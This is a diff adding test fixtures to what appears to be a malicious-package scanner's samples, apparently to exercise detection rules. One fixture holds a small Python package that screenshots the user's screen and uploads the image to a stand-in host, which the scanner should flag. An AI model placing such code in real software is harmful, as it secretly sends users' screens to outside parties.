@@ -35,8 +35,22 @@ export const samples: Samples = {
       ),
       expected: at('camera', 'high', 3),
     },
+    {
+      name: 'a picture of the screen that a function hands over',
+      files: {
+        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+        'own/__init__.py':
+          "import pyautogui, requests\ndef go():\n    pyautogui.screenshot('own.png')\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
+      },
+      expected: [{ rule: 'screen', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
   ],
   benign: [
+    quiet('a picture of the screen that a service is asked about', {
+      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+      'own/__init__.py':
+        "import pyautogui, requests\ndef read():\n    pyautogui.screenshot('own.png')\n    answer = requests.post('https://read.weir.test/text', files={'own': open('own.png', 'rb')})\n    return answer.json()\n",
+    }),
     quiet(
       'keys of a game',
       wheel('from pynput import keyboard\ndef play(press):\n    keyboard.Listener(on_press=press).start()\n'),
